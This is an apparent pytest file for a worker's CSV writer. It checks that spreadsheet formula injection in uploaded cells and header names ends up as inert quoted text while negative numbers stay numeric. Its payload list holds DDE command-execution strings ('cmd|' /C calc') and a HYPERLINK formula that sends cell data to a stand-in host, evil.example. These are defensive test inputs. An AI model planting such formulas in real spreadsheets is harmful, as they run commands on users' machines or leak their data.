"""CSV formula injection: text an uploader wrote so that a spreadsheet would run it arrives in
result.csv as inert text (OWASP: a leading single quote), while numbers stay numbers."""

from __future__ import annotations

import csv
import io

from worker.tabular import write_csv

from tests.fixtures.algorithms import every_param as algorithm

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def attacker_csv() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["=cmd|' /C calc'!A0", "x", "y", "note"])
    for n in range(40):
        offset = 0.0 if n % 2 else 10.0
        writer.writerow([f"r{n}", f"{offset + n % 7 * 0.1:.2f}", f"{-offset - n % 5 * 0.2:.2f}",
                         PAYLOADS[n % len(PAYLOADS)]])
    return buffer.getvalue().encode()


def test_formulas_in_cells_and_header_names_reach_result_csv_neutralised():
    result = algorithm.run(attacker_csv(), {}, lambda *_: None)
    rows = list(csv.reader(io.StringIO(result.csv.decode(), newline="")))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"
    notes = {row[3] for row in rows[1:]}
    assert notes == {"'" + payload for payload in PAYLOADS}
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert any(row[2].startswith("-") and float(row[2]) < 0 for row in rows[1:])  # negative numbers untouched


def test_numbers_and_plain_text_are_written_as_they_are():
    out = write_csv(["name", "value"], [["-1.5", -2], ["+3", 4.5], ["plain - text", 0]]).decode()
    assert out == "name,value\r\n-1.5,-2\r\n+3,4.5\r\nplain - text,0\r\n"


def test_a_cell_holding_a_carriage_return_stays_one_cell():
    out = write_csv(["note"], [["a\rb"], ["\r=1+1"]]).decode()
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["note"], ["a\rb"], ["'\r=1+1"]]
